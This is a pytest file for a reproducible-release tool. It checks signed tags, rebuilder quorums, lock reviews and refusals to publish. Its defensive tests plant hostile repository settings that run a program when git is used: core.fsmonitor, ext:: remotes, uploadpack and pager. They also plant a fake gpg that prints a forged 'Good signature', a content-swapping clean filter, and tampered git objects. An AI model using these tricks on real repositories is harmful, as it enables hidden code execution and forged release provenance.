# SPDX-License-Identifier: ISC
"""The way of a release: prepared from a clean tree with a reviewed lock and passing
tests, rebuilt from its tag by others, counted, published, bundled.  The build is a
stand-in, all else is the project's own: each refusal is tried."""
import hashlib
import json
import os
import re
import shutil
import tarfile
import zlib

import pytest

from statements import TOP, Key, hostile, run

VERSION = '9.9.9'
WORDS = ' '.join(['one', 'two'] * 16)
BUILD = r'''#!/bin/bash -p
set -euo pipefail
here=$(cd "$(dirname "$0")/.." && pwd)
out=${BUILD:-$here/build}/out
mkdir -p "$out"
cp "$here/source" "$out/keyroom-9.9.9-amd64.iso"
echo m >"$out/keyroom-9.9.9-amd64.manifest"
echo p >"$out/keyroom-9.9.9-amd64.packages"
echo raw >"$out/keyroom-softhsm-9.9.9.raw"
. "$here/image/lib/common.sh"
packed=$(mktemp -d)
pack_sources | tar -C "$packed" -xpf -
echo "sources: $("$here/image/lib/tree-hash" "$packed")" >"$out/keyroom-9.9.9-amd64.buildinfo"
rm -r "$packed"
[ ! -e "$here/breaks" ] || { echo "it breaks" >&2; exit 1; }
printf 'NAME=keyroom-9.9.9-amd64\nEXTENSION=%s\n' "$out/keyroom-softhsm-9.9.9.raw" >"$out/latest.small"
'''


class Project:
    committer = 'x'

    def __init__(self, folder):
        self.folder = folder
        self.top = folder / 'project'
        for part in ('reproducible', 'image/lib', 'packages/lib', 'tools/evidence/lib', 'lib/cli'):
            shutil.copytree(TOP / part, self.top / part, ignore=shutil.ignore_patterns('__pycache__'))
        # Of what this project has.
        common = self.top / 'image/lib/common.sh'
        common.write_text(re.sub(r'^disc_sources=.*', 'disc_sources=(image packages source)', common.read_text(), flags=re.M))
        self.write('image/build', BUILD, 0o755)
        self.write('image/lib/words', f'#!/bin/sh\necho "PGP Words:  {WORDS}"\n', 0o755)
        self.write('image/profiles/small/settings', '')
        self.write('image/release', f'KEYROOM_VERSION={VERSION}\nKEYROOM_EPOCH=1795392000\n')
        self.write('image/host-check', '')
        self.write('source', 'the disc\n')
        self.write('.gitignore', '/build\n__pycache__/\n')
        self.write('CHANGELOG.md', f'## {VERSION}\n')
        self.write('RELEASE.md', '| version |\n| --- |\n<!-- releases end -->\n\n<!-- rebuilders end -->\n\n<!-- packages end -->\n')
        self.write('packages/trixie-amd64.lock', '# lock\n')
        self.keys = {}
        secrets = folder / 'secrets'
        secrets.mkdir()
        self.ssh = secrets / 'release'
        run('ssh-keygen', '-q', '-t', 'ed25519', '-N', '', '-C', '', '-f', self.ssh).check_returncode()
        self.keys = {name: Key(secrets, name) for name in ('a', 'b', 'c')}
        public = (secrets / 'release.pub').read_text().strip()
        self.write('attest/allowed_signers', f'release@example.org namespaces="git,keyroom-release" {public}\n')
        self.write('attest/policy', ''.join(f'witness {k} {v.vkey}\n' for k, v in self.keys.items()) +
                   'group rebuilders 2 a b c\nquorum rebuilders\n')
        lock = run('sha256sum', self.top / 'packages/trixie-amd64.lock').stdout.split()[0]
        self.write('attest/lock-reviewed', f'{lock} 2026-11-28 somebody\n')
        self.git('init', '-q', '-b', 'main')
        self.commit()

    def write(self, name, text, mode=0o644):
        path = self.top / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        path.chmod(mode)

    @property
    def env(self):
        return {'PATH': '/usr/sbin:/usr/bin:/sbin:/bin', 'HOME': str(self.folder), 'TMPDIR': '/var/tmp',
                'XDG_CACHE_HOME': str(self.folder / 'cache'), 'GIT_AUTHOR_NAME': 'x', 'GIT_AUTHOR_EMAIL': 'x@example.org',
                'GIT_COMMITTER_NAME': self.committer, 'GIT_COMMITTER_EMAIL': 'x@example.org'}

    def git(self, *argv):
        done = run('git', *argv, cwd=self.top, env=self.env)
        done.check_returncode()
        return done.stdout.strip()

    def commit(self):
        self.git('add', '-A')
        self.git('commit', '-q', '-m', 'change')

    def command(self, name, *argv):
        return run(self.top / 'reproducible' / name, *argv, env=self.env, cwd=self.folder)

    def release(self, *more, tests='true'):
        tests = ('--test-command', tests) if tests else ()
        return self.command('release', '--version-of', VERSION, '--key', self.ssh, *tests, *more)

    def rebuild(self, who, *more):
        """Once alone, unless more says otherwise: the time."""
        vary = () if '--vary' in more else ('--vary', 'none')
        done = self.command('rebuild', '--out', self.folder / f'out-{who}', '--attest', self.keys[who].path, '--name', who,
                            *vary, *more, VERSION)
        if done.returncode == 0:
            (self.top / 'attest' / VERSION).mkdir(exist_ok=True)
            shutil.copy(self.folder / f'out-{who}' / f'{who}.intoto.jsonl', self.top / 'attest' / VERSION)
        return done


@pytest.fixture
def project(tmp_path):
    (tmp_path / 'cache/keyroom/deb').mkdir(parents=True)
    return Project(tmp_path)


def test_a_release_from_beginning_to_end(project):
    before = (project.top / 'RELEASE.md').read_text()
    done = project.release()
    assert done.returncode == 0 and 'nothing of it is published yet' in done.stderr, done
    made = project.top / 'build/release' / VERSION
    assert sorted(path.name for path in made.iterdir()) == sorted(
        ['SHA256SUMS', 'SHA256SUMS.release.sig', 'SHA256WORDS', 'SHA256WORDS.release.sig', 'SOURCE', f'keyroom-softhsm-{VERSION}.raw',
         *[f'keyroom-{VERSION}-amd64.{kind}' for kind in ('iso', 'manifest', 'packages', 'buildinfo')]])
    assert (project.top / 'RELEASE.md').read_text() == before
    assert run('git', '-c', f'gpg.ssh.allowedSignersFile={project.top}/attest/allowed_signers', 'verify-tag', VERSION,
               cwd=project.top, env=project.env).returncode == 0
    # One rebuilder is too few, two are enough.
    assert project.rebuild('a').returncode == 0
    done = project.release()
    assert done.returncode == 1 and 'too few rebuilders' in done.stderr
    assert (project.top / 'RELEASE.md').read_text() == before
    assert project.rebuild('b').returncode == 0
    done = project.release()
    assert done.returncode == 0 and 'published: rebuilt by a, b' in done.stderr, done
    text = (project.top / 'RELEASE.md').read_text()
    digest = run('sha256sum', made / f'keyroom-{VERSION}-amd64.iso').stdout.split()[0]
    assert re.search(rf'^\| {VERSION} \| 2026-11-23 \| 1795392000 \| `[0-9a-f]{{16}}` \| `keyroom-{VERSION}-amd64.iso` '
                     rf'\| `{digest}` \| {WORDS} \|$', text, re.M)
    assert f'- {VERSION}: rebuilt by a, b.\n' in text
    evidence = project.top / 'attest' / VERSION
    assert json.loads((evidence / 'verdict.json').read_text())['predicate']['verificationResult'] == 'PASSED'
    # What was published can be judged by a stranger, and a late one is late.
    done = project.command('quorum', '--policy', project.top / 'attest/policy', '--release', VERSION, evidence)
    assert done.returncode == 0 and 'SOURCE by release@example.org' in done.stdout, done
    # Again: the same lines, not more of them.
    assert project.release().returncode == 0
    assert (project.top / 'RELEASE.md').read_text().count(digest) == 1
    # verify-release believes the signature (the stand-in is no ISO, which it says).
    done = project.command('verify-release', '--signers', project.top / 'attest/allowed_signers',
                           made / f'keyroom-{VERSION}-amd64.iso')
    assert 'SHA256SUMS is signed by release@example.org' in done.stdout and 'RELEASE.md says the same' in done.stdout


def test_dissent_is_not_published_in_silence(project):
    assert project.release().returncode == 0
    for who in 'ab':
        assert project.rebuild(who).returncode == 0
    project.write('source', 'another disc\n')
    (project.folder / 'other').mkdir()
    # c builds the tag, but on a machine that changes the result.
    shutil.copytree(project.folder / 'out-a/files', project.folder / 'c')
    (project.folder / 'c' / f'keyroom-{VERSION}-amd64.iso').write_text('another disc')
    done = project.command('attest', '--key', project.keys['c'].path, '--name', 'c', '--circumstances',
                           project.folder / 'out-a/circumstances.json', project.folder / 'c')
    (project.top / 'attest' / VERSION / 'c.intoto.jsonl').write_text(done.stdout)
    project.git('checkout', '-q', 'source')
    done = project.release()
    assert done.returncode == 1 and 'there is dissent' in done.stderr
    done = project.release('--without-rebuilders', 'c had a broken disk')
    assert done.returncode == 0
    assert f'- {VERSION}: without a quorum of rebuilders: c had a broken disk.' in (project.top / 'RELEASE.md').read_text()


def test_without_rebuilders_it_says_so(project):
    assert project.release().returncode == 0
    assert project.release().returncode == 1
    assert project.release('--without-rebuilders', 'a test').returncode == 0
    assert f'- {VERSION}: without a quorum of rebuilders: a test.' in (project.top / 'RELEASE.md').read_text()


def test_three_keys_of_one_are_one_who_built_it(project):
    """RELEASE.md named three rebuilders where the project alone had three keys."""
    policy = (project.top / 'attest/policy').read_text().replace(
        'group rebuilders 2 a b c', 'group project any a b\ngroup rebuilders 1 project')
    project.write('attest/policy', policy)
    project.commit()
    assert project.release().returncode == 0
    for who in 'abc':
        assert project.rebuild(who).returncode == 0
    done = project.release()
    # c agrees, and counts for nothing.
    assert done.returncode == 0 and f'- {VERSION}: rebuilt by project (a, b), one operator alone.\n' in (project.top / 'RELEASE.md').read_text(), done
    project.write('attest/policy', policy.replace('rebuilders 1 project', 'rebuilders 1 project c'))
    assert project.release().returncode == 0
    assert f'- {VERSION}: rebuilt by project (a, b), c.\n' in (project.top / 'RELEASE.md').read_text()


def test_a_statement_that_cannot_be_read_is_not_left_out(project):
    assert project.release().returncode == 0
    for who in 'ab':
        assert project.rebuild(who).returncode == 0
    other = project.top / 'attest' / VERSION / 'c.intoto.jsonl'
    other.symlink_to('/nonexistent')
    done = project.release()
    assert done.returncode == 3 and f'{other}: is no file that can be read' in done.stderr, done
    other.unlink()
    source = project.top / 'build/release' / VERSION / 'SOURCE'
    before = source.read_text()
    source.write_text(re.sub('^lock: .*', f'lock: {"0" * 64}', before, flags=re.M))
    done = project.release()
    assert done.returncode == 1 and 'SOURCE: is not the tree and the lock' in done.stderr, done
    source.write_text(before)
    assert project.release().returncode == 0


def test_a_why_is_written_as_it_stands(project):
    assert project.release().returncode == 0
    why = r'see C:\new and <!-- rebuilders end --> & \\1'
    assert project.release('--without-rebuilders', why).returncode == 0
    assert f'- {VERSION}: without a quorum of rebuilders: {why}.\n' in (project.top / 'RELEASE.md').read_text()


def released_before(project, *lines):
    """RELEASE.md has 9.9.8, made of what is committed now, whose lock has these lines."""
    project.write('packages/trixie-amd64.lock', '# snapshot: 20260101T000000Z\n' + ''.join(lines))
    project.commit()
    commit = project.git('rev-parse', 'HEAD')[:16]
    release = project.top / 'RELEASE.md'
    release.write_text(release.read_text().replace(
        '<!-- releases end', f'| 9.9.8 | 2026-01-01 | 1 | `{commit}` | `a.iso` | `{"0" * 64}` | x |\n<!-- releases end'))
    project.write('packages/trixie-amd64.lock', '# snapshot: 20260201T000000Z\n' + package('more', '1') + package('tool', '2~rc1') +
                  package('zoo', '7'))
    lock = run('sha256sum', project.top / 'packages/trixie-amd64.lock').stdout.split()[0]
    project.write('attest/lock-reviewed', f'{lock} 2026-11-28 somebody\n')
    project.commit()


def package(name, version):
    return f'{name} {version} amd64 {hashlib.sha256((name + version).encode()).hexdigest()} 1 pool/{name} base\n'


def test_what_changed_since_the_last_release_has_a_why(project):
    """Which packages, and why, stands in RELEASE.md: nobody else says why a new version
    of a library is on the disc."""
    released_before(project, package('gone', '3'), package('tool', '1'), package('zoo', '7'))
    why = project.top / 'attest' / VERSION / 'packages'
    done = project.release()
    assert done.returncode == 1 and f'{why} does not say why' in done.stderr and 'gone' in done.stderr, done
    why.parent.mkdir()
    why.write_text('# what changed\ngone  nothing uses it\nzoo not asked\nmore\n')
    done = project.release()
    assert done.returncode == 1 and re.search(r': more tool$', done.stderr.strip()) and not project.git('tag'), done
    why.write_text('gone  nothing uses it\ntool CVE-2026-0001 & a "fix"\n* asked for by tool\n')
    assert project.release().returncode == 0
    section = (f'### {VERSION}, since 9.9.8\n\n'
               '- `added more 1 (base)`: asked for by tool\n'
               '- `archive snapshot: 20260101T000000Z became 20260201T000000Z`\n'
               '- `removed gone 3 (base)`: nothing uses it\n'
               '- `version tool 1 became 2~rc1 (base)`: CVE-2026-0001 & a "fix"\n'
               '- 3 packages differ\n\n<!-- packages end -->')
    before = (project.top / 'RELEASE.md').read_text()
    assert section not in before
    why.write_text('gone  nothing uses it\n')
    done = project.release('--without-rebuilders', 'x')
    assert done.returncode == 1 and 'does not say why' in done.stderr and (project.top / 'RELEASE.md').read_text() == before, done
    why.write_text('gone  nothing uses it\ntool CVE-2026-0001 & a "fix"\n* asked for by tool\n')
    for _ in range(2):                                      # again: the same, once
        assert project.release('--without-rebuilders', 'x').returncode == 0
        assert (project.top / 'RELEASE.md').read_text().count(f'### {VERSION}, since') == 1
        assert section in (project.top / 'RELEASE.md').read_text()


def test_lock_diff_says_what_a_release_asks_for(project):
    """No release before 0.4.0 has a tag: --diff compared with the last commit, so that
    nothing differed, and release wanted the why of all that did."""
    shutil.copy(TOP / 'packages/lock', project.top / 'packages/lock')
    released_before(project, package('gone', '3'), package('tool', '1'), package('zoo', '7'))
    project.git('tag', 'something')

    def diff():
        done = run(project.top / 'packages/lock', '--diff', env=project.env)
        assert done.returncode == 0, done
        return done
    said = diff()
    assert 'compared with 9.9.8' in said.stderr and 'removed gone 3 (base)\n' in said.stdout and '\n3 packages differ\n' in said.stdout, said
    # The line of this version is not that of the one before.
    release = project.top / 'RELEASE.md'
    line = re.search(r'^\| 9.9.8 .*\n', release.read_text(), re.M)[0]
    release.write_text(release.read_text().replace(line, line + line.replace('9.9.8', VERSION)))
    assert diff().stdout == said.stdout
    release.write_text(re.sub('`[0-9a-f]{16}`', f'`{"0" * 16}`', release.read_text()))
    done = diff()
    assert 'HEAD, since git does not have 0000000000000000, which is 9.9.8' in done.stderr and done.stdout == '0 packages differ\n', done


def test_a_release_before_that_git_does_not_have(project):
    released_before(project)
    release = project.top / 'RELEASE.md'
    release.write_text(re.sub('`[0-9a-f]{16}`', f'`{"0" * 16}`', release.read_text()))
    done = project.release()
    assert done.returncode == 1 and f'git has no lock of 9.9.8 (commit {"0" * 16})' in done.stderr, done


def test_a_tag_travels_as_a_file(project):
    """Not every way of a repository takes tags along."""
    assert project.release().returncode == 0
    project.commit()
    clone = project.folder / 'clone'
    run('git', 'clone', '-q', '--no-tags', project.top, clone, env=project.env).check_returncode()
    rebuild = (clone / 'reproducible/rebuild', '--vary', 'none', '--out', project.folder / 'o', VERSION)
    assert run(*rebuild, env=project.env).returncode == 3
    line, = re.findall('^ {8}(git update-ref .*)$', (TOP / 'RELEASE.md').read_text(), re.M)
    run('bash', '-euc', line.replace('VERSION', VERSION), cwd=clone, env=project.env).check_returncode()
    assert run('git', 'rev-parse', VERSION, cwd=clone, env=project.env).stdout.strip() == project.git('rev-parse', VERSION)
    done = run(*rebuild, env=project.env)
    assert done.returncode == 0 and 'is signed by somebody' in done.stderr, done


def published(project):
    return re.search('^published: .*$', (project.top / 'attest' / VERSION / 'SOURCE').read_text(), re.M)[0]


def test_who_reads_the_hash_first_is_late_for_ever(project):
    """Each run gave the release a new time of publishing, so that a statement made of
    the published hash counted at the next one."""
    assert project.release().returncode == 0
    assert project.release('--without-rebuilders', 'a test').returncode == 0
    first = published(project)
    for who in 'ab':
        assert project.rebuild(who).returncode == 0
    done = project.release()
    assert done.returncode == 1 and 'too few rebuilders' in done.stderr and done.stderr.count(' late ') == 2, done
    assert project.release('--without-rebuilders', 'another').returncode == 0 and published(project) == first


def test_what_was_published_stays(project):
    assert project.release().returncode == 0
    for who in 'ab':
        assert project.rebuild(who).returncode == 0
    assert project.release().returncode == 0
    first = published(project)
    assert project.rebuild('c').returncode == 0
    done = project.release()
    assert done.returncode == 0 and 'published: rebuilt by a, b;' in done.stderr and published(project) == first, done
    evidence = project.top / 'attest' / VERSION
    inputs = json.loads((evidence / 'verdict.json').read_text())['predicate']['inputAttestations']
    assert [one['uri'] for one in inputs] == ['a.intoto.jsonl', 'b.intoto.jsonl']
    # Nor does it become a release of something else.
    for name, change in (('SHA256SUMS', lambda text: text.replace('.raw', '.rax')),
                         ('SOURCE', lambda text: text.replace('tree: ', 'tree: 0')),
                         ('SOURCE', lambda text: text.replace('published', 'printed'))):
        before = (evidence / name).read_text()
        (evidence / name).write_text(change(before))
        done = project.release()
        assert done.returncode == 1 and str(evidence) in done.stderr and (evidence / name).read_text() == change(before), done
        (evidence / name).write_text(before)
    # Nor was it published later than it was, by whoever can write there.
    before = (evidence / 'SOURCE').read_text()
    (evidence / 'SOURCE').write_text(before.replace(first, 'published: 2099-01-01T00:00:00Z'))
    done = project.release()
    assert done.returncode == 1 and 'SOURCE: carries no signature' in done.stderr, done
    done = project.command('quorum', '--policy', project.top / 'attest/policy', '--release', VERSION, evidence)
    assert done.returncode == 3 and 'SOURCE: has no signature that counts' in done.stderr, done


REFUSALS = {
    'dirty': (lambda p: p.write('source', 'changed\n'), 'git does not have these changes'),
    'untracked': (lambda p: p.write('image/more', ''), 'git does not have these changes'),
    'ignored': (lambda p: (p.write('.git/info/exclude', 'hidden\n'), p.write('image/hidden', '')), 'git ignores these'),
    'lock': (lambda p: (p.write('packages/trixie-amd64.lock', '# other\n'), p.commit()), 'not one of those that were reviewed'),
    'never reviewed': (lambda p: os.unlink(p.top / 'attest/lock-reviewed'), 'nobody has reviewed'),
    'version': (lambda p: (p.write('image/release', 'KEYROOM_VERSION=9.9.8\n'), p.commit()), 'not 9.9.9'),
    'changelog': (lambda p: p.write('CHANGELOG.md', '## 9.9.8\n'), 'CHANGELOG.md has nothing'),
    'released': (lambda p: p.write('RELEASE.md', f'| {VERSION} | x |\n'), 'already'),
    'build': (lambda p: (p.write('breaks', ''), p.commit()), 'not the same bytes'),
    'signer': (lambda p: p.write('attest/allowed_signers', ''), 'is not among'),
    'no epoch': (lambda p: (p.write('image/release', f'KEYROOM_VERSION={VERSION}\nKEYROOM_EPOCH=x\n'), p.commit()), 'KEYROOM_EPOCH=x'),
    'epoch': (lambda p: (released_before(p), p.write('RELEASE.md', (p.top / 'RELEASE.md').read_text().replace('| 1 |', '| 1795392000 |'))),
              '9.9.8 had 1795392000: it moves with each release'),
}


@pytest.mark.slow
@pytest.mark.parametrize('name', REFUSALS)
def test_a_release_is_refused(project, name):
    change, reason = REFUSALS[name]
    change(project)
    done = project.release()
    assert done.returncode == 1 and reason in done.stderr, done
    assert not project.git('tag') and not (project.top / 'build/release' / VERSION).exists()


@pytest.mark.parametrize('change,reason', [
    (lambda p: p.write('attest/allowed_signers', (p.top / 'attest/allowed_signers').read_text().replace('git,', '')), 'for the namespace git'),
    (lambda p: p.write('attest/allowed_signers', (p.top / 'attest/allowed_signers').read_text().replace(',keyroom-release', '')),
     'for the namespace keyroom-release'),
    (lambda p: setattr(p, 'committer', ''), 'git does not know who makes the tag'),
])
def test_what_cannot_sign_is_said_before_the_tests(project, change, reason):
    """It was found out behind tests and builds, an hour later; a key that may not sign
    tags by the rebuilders alone, who refused what it had tagged."""
    change(project)
    done = project.release(tests=f'touch {project.folder}/tested')
    assert done.returncode == 1 and reason in done.stderr and not (project.folder / 'tested').exists(), done
    assert not project.git('tag')


def test_a_tag_that_does_not_verify_is_no_tag(project):
    """Whatever git has made, and by whatever it was set up to sign with."""
    tool = project.folder / 'signs'
    tool.write_text('#!/bin/sh\nfor file; do :; done\necho "-----BEGIN SSH SIGNATURE-----" >"$file.sig"\n')
    tool.chmod(0o755)
    project.git('config', 'gpg.ssh.program', str(tool))
    done = project.release()
    assert done.returncode == 1 and 'carries no signature' in done.stderr and not project.git('tag'), done
    project.git('config', '--unset', 'gpg.ssh.program')
    assert project.release().returncode == 0 and project.git('tag') == VERSION


def test_failing_tests_refuse_a_release(project):
    done = project.release(tests='false')
    assert done.returncode == 1 and 'tests fail' in done.stderr and not project.git('tag')


@pytest.mark.parametrize('tests,status', [('exit 0', 0), ('exit 1', 1)])
def test_a_path_with_blanks(tmp_path, tests, status):
    """Without --test-command it is "make test", wherever that is."""
    (tmp_path / 'cache/keyroom/deb').mkdir(parents=True)
    (tmp_path / 'a  folder').mkdir()
    project = Project(tmp_path / 'a  folder')
    project.write('Makefile', f'test:\n\tmkdir -p build && echo tested >build/tested\n\t{tests}\n')
    project.commit()
    done = project.release(tests='')
    assert done.returncode == status and (project.top / 'build/tested').exists(), done


@pytest.mark.parametrize('words', ['exit 1', 'echo "PGP Words:  one two"', 'echo "SHA-256: 0"'])
def test_words_that_are_not_there_are_no_words(project, words):
    """A program that failed left an empty column in RELEASE.md, and a SHA256WORDS of
    names alone, which was signed and published as if it were whole."""
    assert project.release().returncode == 0
    before = (project.top / 'RELEASE.md').read_text()
    project.write('image/lib/words', f'#!/bin/sh\n{words}\n', 0o755)
    done = project.release('--without-rebuilders', 'x')
    assert done.returncode == 5 and 'words' in done.stderr and (project.top / 'RELEASE.md').read_text() == before, done
    project.git('tag', '-d', VERSION)
    project.commit()
    done = project.release()
    assert done.returncode == 5 and 'words' in done.stderr and not project.git('tag'), done


HIDDEN = {
    'untracked': ([('config', 'status.showUntrackedFiles', 'no')], 'image/more', None),
    'mode': ([('config', 'core.fileMode', 'false')], 'source', 0o755),
    'assumed': ([('update-index', '--assume-unchanged', 'source')], 'source', None),
    'skipped': ([('update-index', '--skip-worktree', 'source')], 'source', None),
    'stat': ([('config', 'core.ignoreStat', 'true'), ('checkout', '-q', '-f', 'HEAD^'), ('checkout', '-q', '-f', 'main')], 'source', None),
    'monitor': ([('config', 'core.fsmonitor', 'printf "x\\0" #'), ('config', 'core.fsmonitorHookVersion', '2'),
                 ('update-index', '--fsmonitor'), ('status',)], 'source', None),
    'worktree': ([('config', 'core.worktree', '../../other')], 'source', None),
    'attributes': ([('config', 'filter.x.clean', 'echo the disc; true')], 'source', None),
}


@pytest.mark.slow
@pytest.mark.parametrize('name', HIDDEN)
def test_a_change_that_git_does_not_see(project, name):
    """What a user, or the repository itself, has set up hides changes from git; a
    release was built of them, and signed as its commit."""
    if name == 'worktree':
        shutil.copytree(project.top, project.folder / 'other', ignore=shutil.ignore_patterns('.git'))
    project.write('source', 'another one\n')
    project.commit()
    project.write('source', 'the disc\n')
    project.commit()
    settings, path, mode = HIDDEN[name]
    for argv in settings:
        project.git(*argv)
    if name == 'attributes':
        project.write('.git/info/attributes', 'source filter=x\n')
    if mode:
        (project.top / path).chmod(mode)
    else:
        project.write(path, 'the disk\n')
    assert not project.git('status', '--porcelain')
    done = project.release()
    assert done.returncode == 1 and ('git does not have these changes' in done.stderr or 'may hide changes' in done.stderr), done
    assert name != 'attributes' or f'{project.top}/.git/info/attributes: ' in done.stderr and 'move it away' in done.stderr
    assert not project.git('tag')


def test_an_empty_folder_is_among_the_sources(project):
    """git knows none, so the rebuilders' sources have another hash."""
    (project.top / 'image/empty').mkdir()
    done = project.release()
    assert done.returncode == 1 and 'was built of sources with the hash' in done.stderr and not project.git('tag'), done


LATER = {
    'a change': ('echo changed >{top}/source', 'git does not have these changes'),
    'a commit': ('cd {top} && echo changed >source && git commit -q -a -m x', 'is no longer'),
    'the lock': ('cd {top} && : >attest/lock-reviewed', 'not one of those that were reviewed'),
    'and back': ('echo changed >{top}/source; echo "git -C {top} checkout -q ." >>{top}/reproducible/verify',
                 'was built of sources with the hash'),
}


@pytest.mark.slow
@pytest.mark.parametrize('name', LATER)
def test_what_changes_while_it_is_tested_and_built(project, name):
    """The tests and two builds take an hour; the tag was that of whatever was checked
    out behind them, over a disc of something else."""
    command, reason = LATER[name]
    done = project.release(tests=command.format(top=project.top))
    assert done.returncode == 1 and reason in done.stderr, done
    assert not project.git('tag') and not (project.top / 'build/release' / VERSION).exists()


def test_files_that_change_after_they_were_signed(project):
    assert project.release().returncode == 0
    (project.top / 'build/release' / VERSION / f'keyroom-{VERSION}-amd64.iso').write_text('x')
    done = project.release('--without-rebuilders', 'x')
    assert done.returncode == 1 and 'changed since they were signed' in done.stderr


def test_rebuild_believes_no_tag_but_a_signed_one(project):
    assert project.release().returncode == 0
    project.git('tag', 'plain')
    for argv, status in ((['plain'], 3), (['none'], 3), (['--unsigned', 'plain'], 0), ([VERSION], 0)):
        shutil.rmtree(project.folder / 'o', ignore_errors=True)
        done = project.command('rebuild', '--vary', 'none', '--out', project.folder / 'o', *argv)
        assert done.returncode == status, (argv, done)
    how = json.loads((project.folder / 'o/circumstances.json').read_text())
    assert how['commit'] == project.git('rev-parse', 'HEAD') and how['version'] == VERSION
    assert project.command('rebuild', '--vary', 'none', '--out', project.folder / 'o', VERSION).returncode == 3
    project.write('attest/allowed_signers', '')
    assert project.command('rebuild', '--vary', 'none', '--out', project.folder / 'p', VERSION).returncode == 3


def test_what_was_signed_is_what_is_published(project):
    """Files and their sums exchanged together agree with each other, but not with the
    signature: RELEASE.md got the line of a disc that nobody had signed."""
    assert project.release().returncode == 0
    made = project.top / 'build/release' / VERSION
    (made / f'keyroom-{VERSION}-amd64.iso').write_text('x')
    sums = (made / 'SHA256SUMS').read_text().splitlines()
    names = [line[66:] for line in sums]
    (made / 'SHA256SUMS').write_text(run('sha256sum', *names, cwd=made).stdout)
    before = (project.top / 'RELEASE.md').read_text()
    done = project.release('--without-rebuilders', 'x')
    assert done.returncode == 1 and 'SHA256SUMS.release.sig: is no signature' in done.stderr, done
    assert (project.top / 'RELEASE.md').read_text() == before and not (project.top / 'attest' / VERSION / 'SOURCE').exists()
    # Nor under the name of somebody who did not sign: nothing is half done.
    done = project.release('--without-rebuilders', 'x', '--signer', 'other')
    assert done.returncode == 1 and (project.top / 'RELEASE.md').read_text() == before


def test_a_tag_signed_otherwise_is_not_signed(project):
    """git asks the program that a signature's form names.  Of gpg's, any key that
    the rebuilder ever imported was taken for one of allowed_signers; and a
    repository's own configuration names programs, too."""
    if not shutil.which('gpg'):
        pytest.skip('no gpg')
    home = project.folder / '.gnupg'
    home.mkdir(mode=0o700)
    gpg = ('gpg', '--batch', '--quiet', '--homedir', home)
    run(*gpg, '--passphrase', '', '--quick-gen-key', 'Eve <eve@example.org>', 'ed25519', 'sign', 'never',
        env=project.env).check_returncode()
    try:
        project.git('-c', 'user.signingkey=eve@example.org', 'tag', '-s', '-m', 'x', VERSION)
        project.git('verify-tag', VERSION)
        done = project.command('rebuild', '--vary', 'none', '--out', project.folder / 'o', VERSION)
        assert done.returncode == 3 and 'carries no signature' in done.stderr, done
    finally:
        run('gpgconf', '--homedir', home, '--kill', 'all')
    project.write('liar', '#!/bin/sh\necho "Good \\"git\\" signature for x with ED25519 key SHA256:x"\n', 0o755)
    for name in ('gpg.program', 'gpg.openpgp.program', 'gpg.ssh.program', 'gpg.x509.program'):
        project.git('config', name, project.top / 'liar')
    done = project.command('rebuild', '--vary', 'none', '--out', project.folder / 'o', VERSION)
    assert done.returncode == 3 and 'carries no signature' in done.stderr, done


@pytest.mark.parametrize('way', ['ext', 'uploadpack'])
@pytest.mark.parametrize('more', [(), ('--unsigned', )])
def test_a_repository_runs_nothing(project, way, more):
    """What is offered as a repository says in its configuration whom git asks for an
    object that it lacks; the question was put, by a program of that maker's, before
    any signature was looked at, and again while the clone was sent."""
    assert project.release().returncode == 0
    made = project.folder / 'ran'
    program = project.folder / 'program'
    program.write_text(f'#!/bin/sh\necho x >{made}\n')
    program.chmod(0o755)
    offered = project.folder / 'offered'
    shutil.copytree(project.top, offered, symlinks=True)
    for name, value in {
            'core.repositoryFormatVersion': '1', 'extensions.partialClone': 'evil', 'remote.evil.promisor': 'true',
            'remote.evil.url': f'ext::{program}' if way == 'ext' else str(project.top), 'remote.evil.uploadpack': program,
            'remote.evil.partialCloneFilter': 'blob:none', 'protocol.ext.allow': 'always', 'protocol.allow': 'always',
            'core.fsmonitor': program, 'core.hooksPath': project.folder, 'core.sshCommand': program,
            'core.alternateRefsCommand': program, 'core.pager': program, 'uploadpack.packObjectsHook': program,
            'gpg.ssh.defaultKeyCommand': program}.items():
        run('git', 'config', name, value, cwd=offered, env=project.env).check_returncode()
    argv = ['rebuild', '--repository', offered, '--vary', 'none', *more, '--out']
    done = project.command(*argv, project.folder / 'whole', VERSION)
    assert done.returncode == 0 and not made.exists(), done
    # Then one of the objects is missing.
    for number, revision in enumerate((f'refs/tags/{VERSION}', f'{VERSION}^{{commit}}', f'{VERSION}:source')):
        name = run('git', 'rev-parse', revision, cwd=project.top, env=project.env).stdout.strip()
        lacking = offered / '.git/objects' / name[:2] / name[2:]
        lacking.rename(project.folder / 'kept')
        out = project.folder / f'o{number}'
        done = project.command(*argv, out, VERSION)
        assert not made.exists(), (revision, done)
        assert done.returncode == 3 and not out.exists(), (revision, done)
        (project.folder / 'kept').rename(lacking)
    # And where there is nothing.
    done = project.command(*argv, project.folder / 'x', '0' * 40)
    assert done.returncode == 3 and not made.exists(), done


def test_a_signed_tag_under_another_name_is_refused(project):
    """Whoever offers a repository can give an older release's tag the name of a
    newer one, signature and all: who rebuilds would build, and attest, the old."""
    assert project.release().returncode == 0
    project.git('update-ref', 'refs/tags/9.9.10', f'refs/tags/{VERSION}')
    done = project.command('rebuild', '--vary', 'none', '--out', project.folder / 'o', '9.9.10')
    assert done.returncode == 3 and f'what was signed is the tag {VERSION}' in done.stderr, done
    # A branch of that name does not stand before the tag.
    project.git('branch', VERSION)
    project.write('source', 'another disc\n')
    project.commit()
    project.git('branch', '-f', VERSION)
    assert project.rebuild('a').returncode == 0
    assert (project.folder / 'out-a/files' / f'keyroom-{VERSION}-amd64.iso').read_bytes() == b'the disc\n'


def spoil(project, revision, data):
    """The object keeps its name and gets other contents, as git writes loose ones."""
    pack = project.folder / 'pack'
    (project.top / '.git/objects/pack').rename(pack)
    for one in pack.glob('*.pack'):
        run('sh', '-c', 'exec git unpack-objects -q <"$0"', one, cwd=project.top, env=project.env).check_returncode()
    name = project.git('rev-parse', revision)
    path = project.top / '.git/objects' / name[:2] / name[2:]
    path.chmod(0o644)
    path.write_bytes(zlib.compress(b'blob %d\0%s' % (len(data), data)))


@pytest.mark.parametrize('packed', [False, True])
def test_objects_are_what_their_names_say(project, packed):
    """git does not hash what it clones on one disk: under the genuine signed tag lay
    other sources, and they were built and attested."""
    assert project.release().returncode == 0
    if packed:
        project.git('gc', '-q')
    spoil(project, f'{VERSION}:source', b'another disc\n')
    assert run('git', 'cat-file', 'blob', f'{VERSION}:source', cwd=project.top, env=project.env).stdout == 'another disc\n'
